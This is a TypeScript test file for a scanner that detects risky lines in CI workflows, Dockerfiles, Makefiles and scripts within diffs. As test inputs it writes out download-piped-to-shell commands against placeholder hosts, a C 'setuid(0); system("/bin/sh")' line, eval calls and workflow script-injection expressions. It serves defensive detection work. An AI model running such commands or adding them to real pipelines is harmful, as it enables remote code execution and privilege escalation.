import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { adding, changeOf, fileOf } from '../../text/test-change.ts';
import { markedDiff, placeOf } from '../removed/test-marked.ts';
import { LINE_RULES } from '../rules/workflow/line-rules.ts';
import { placesOf } from './places.ts';
import { scriptLines } from './script-lines.ts';

const samples = join(import.meta.dirname, '../rules/workflow');

const placesIn = (path: string, rule: string): readonly string[] =>
  [...scriptLines(markedDiff(path).change)].filter((found) => found.rule === rule).map(placeOf);

describe.each([...new Set(LINE_RULES.map(({ id }) => id))])('%s', (id) => {
  it('is found on each marked line and on no other', () => {
    const path = join(samples, `${id}.hit.diff`);
    const { marked } = markedDiff(path);
    expect(marked.length).toBeGreaterThan(0);
    expect(placesIn(path, id).toSorted()).toEqual(marked.toSorted());
  });

  it('is not found in what only looks like it', () => {
    const path = join(samples, `${id}.miss.diff`);
    expect(markedDiff(path).change.files.length).toBeGreaterThan(0);
    expect(placesIn(path, id)).toEqual([]);
  });
});

it.each([
  ['.github/workflows/a.yml', 1],
  ['.tangled/workflows/a.yaml', 1],
  ['.gitlab-ci.yml', 1],
  ['action.yml', 1],
  ['Dockerfile', 1],
  ['src/Makefile', 1],
  ['docs/install.md', 0],
  ['src/a.ts', 0],
  ['tools/get', 0],
])('reads the commands of %s: %i', (path, count) => {
  expect([...scriptLines(adding(path, 'curl -s https://get.example.net | bash'))]).toHaveLength(count);
});

it('takes a file without an ending for a script when its lines are a shell’s', () => {
  const command = 'curl -s https://get.example.net | bash';
  expect([...scriptLines(adding('tools/get', '#!/bin/sh', command))]).toHaveLength(1);
  expect([...scriptLines(adding('tools/get', 'if [ -z "$1" ]; then exit; fi', command))]).toHaveLength(1);
  expect([...scriptLines(adding('LICENSE', 'done', command))]).toHaveLength(0);
});

it.each([
  ['a.rb', '::Kernel.eval(x)', 1],
  ['a.rb', '# eval(x)', 0],
  ['a.lua', '-- load(x)', 0],
  ['a.php', '* eval($x);', 1],
  ['a.php', ' * Never call eval($x) here', 0],
  ['a.c', '--i; setuid(0); system("/bin/sh");', 1],
  ['a.c', '#define GO setuid(0); system("/bin/sh");', 1],
  ['a.c', '// setuid(0); system("/bin/sh");', 0],
])('takes for a comment only what is one in its language: %s %s', (path, line, count) => {
  expect([...scriptLines(adding(path, line))]).toHaveLength(count);
});

it('knows the keys above a line of a workflow, through blocks of text and lists', () => {
  const file = fileOf('a.yml', [
    ' jobs:',
    ' ',
    '   build:',
    '     steps:',
    '       - name: one',
    '         run: |',
    '           echo a: b',
    '         env:',
    '           KEY: value',
    '       - uses: x/y@v1',
    '   next:',
  ]);
  const lines = file.hunks[0]?.lines ?? [];
  expect([...placesOf(lines).values()]).toEqual([
    'jobs',
    'jobs/build',
    'jobs/build/steps',
    'jobs/build/steps/name',
    'jobs/build/steps/run',
    'jobs/build/steps/run',
    'jobs/build/steps/env',
    'jobs/build/steps/env/KEY',
    'jobs/build/steps/uses',
    'jobs/next',
  ]);
});

it('says nothing of lines that only moved, whatever they are', () => {
  const parts = [
    'run:',
    'curl -k',
    '| sh',
    '\u0024{{ github.head_ref }}',
    'uses: a/b@v1',
    '||',
    'true',
    'chmod 777',
    'npm test',
  ];
  const line = fc.array(fc.oneof(fc.constantFrom(...parts), fc.string()), { maxLength: 5 });
  fc.assert(
    fc.property(fc.array(line, { maxLength: 15 }), (lines) => {
      const texts = lines.map((words) => words.join(' ').replace(/[\r\n]/g, ''));
      const moved = [...texts.map((text) => `-${text}`), ' between', ...texts.toReversed().map((text) => `+  ${text}`)];
      const found = [...scriptLines(changeOf(fileOf('.github/workflows/a.yml', moved)))];
      expect(found).toEqual([]);
    }),
  );
});

describe('a command that pipes a download into a shell is found', () => {
  const rules = (path: string, ...lines: readonly string[]): readonly string[] =>
    [...scriptLines(changeOf(fileOf(path, lines)))].map(({ rule, line }) => `${rule} ${line}`);

  it.each<[where: string, path: string, lines: readonly string[], line: number]>([
    ['far down a line', 'Makefile', [`+\t${'echo a b c d; '.repeat(300)}curl https://h.test/a | sh`], 1],
    ['across the end of a window', 'a.sh', [`+${'x'.repeat(980)}; curl https://h.test/a | sh`], 1],
    ['far apart on a line', 'a.sh', [`+curl https://h.test/${'a'.repeat(3_000)} | sh`], 1],
    ['over two lines', 'a.sh', ['+curl https://h.test/a \\', '+  | sh'], 1],
    ['where its start was there before', 'a.sh', [' curl https://h.test/a \\', '+  | sh'], 2],
    ['behind the pipe', 'a.sh', ['+curl https://h.test/a |', '+  sh'], 1],
    ['in a block of a workflow', '.github/workflows/a.yml', [' run: |', '+  curl -s h.test \\', '+    | sh'], 2],
  ])('%s', (_where, path, lines, line) => expect(rules(path, ...lines)).toEqual([`download-piped-to-shell ${line}`]));

  it('once, though a line and its command both say it', () => {
    expect(rules('a.sh', '+curl https://h.test/a | sh \\', '+  -s')).toEqual(['download-piped-to-shell 1']);
  });

  it('not where it was there before', () => {
    expect(rules('a.sh', ' curl https://h.test/a \\', '   | sh', '+ls')).toEqual([]);
  });
});

it('takes the start of a window for no start of a line', () => {
  const lines = ['-USER app', `+LABEL a="${'x '.repeat(292)}${'  USER root '.repeat(200)}"`];
  expect([...scriptLines(changeOf(fileOf('Dockerfile', lines)))]).toEqual([]);
});

it('joins an expression of a workflow that goes over lines', () => {
  const lines = ['+      - run: echo \u0024{{', '+          github.event.issue.title }}'];
  expect([...scriptLines(changeOf(fileOf('.github/workflows/a.yml', lines)))]).toMatchObject([
    { rule: 'workflow-script-injection', line: 1 },
  ]);
});
